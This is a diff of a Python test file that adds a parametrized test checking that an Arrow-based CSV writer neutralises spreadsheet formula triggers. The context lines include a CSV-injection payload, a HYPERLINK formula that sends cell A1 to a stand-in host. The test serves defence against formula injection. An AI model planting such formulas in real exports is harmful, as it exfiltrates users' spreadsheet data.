@@ -19,7 +19,7 @@ from conftest import X0, Y0, gk
 from shapely import Point, box
 
 import geoplan
-from geoplan.csvsafe import csv_safe_frame, neutralise_cell
+from geoplan.csvsafe import FORMULA_TRIGGERS, csv_safe_frame, neutralise_cell
 
 EVIL = {
     "eq": '=HYPERLINK("http://x.example/?"&A1,"click")',
@@ -222,6 +222,22 @@ def test_arrow_writer_slices_a_long_frame(tmp_path: Path, monkeypatch: pytest.Mo
     csv_safe_frame(df).to_csv(tmp_path / "want.csv", index=False, encoding="utf-8-sig",
                               lineterminator="\r\n")
     assert (tmp_path / "got.csv").read_bytes() == (tmp_path / "want.csv").read_bytes()
+
+
+@pytest.mark.parametrize("trigger", list(FORMULA_TRIGGERS))
+def test_arrow_writer_neutralises_every_trigger(tmp_path: Path, trigger: str) -> None:
+    """Each leading trigger is caught on the Arrow path, as neutralise_cell catches it."""
+    from geoplan.csvsafe import _write_with_arrow
+
+    cells = [trigger + "SUM(A1)", "x" + trigger, trigger + "1", None]
+    df = pd.DataFrame({"a": pd.array(cells, dtype="str"), "b": pd.Series(cells, dtype=object)})
+    assert _write_with_arrow(df, tmp_path / "got.csv", mode="w", header=True, bom=False,
+                             neutralise=True)
+    csv_safe_frame(df).to_csv(tmp_path / "want.csv", index=False, encoding="utf-8",
+                              lineterminator="\r\n")
+    got = (tmp_path / "got.csv").read_bytes()
+    assert got == (tmp_path / "want.csv").read_bytes()
+    assert got.count(("'" + trigger + "SUM(A1)").encode()) == 2
 
 
 @pytest.mark.parametrize("seed", range(5))
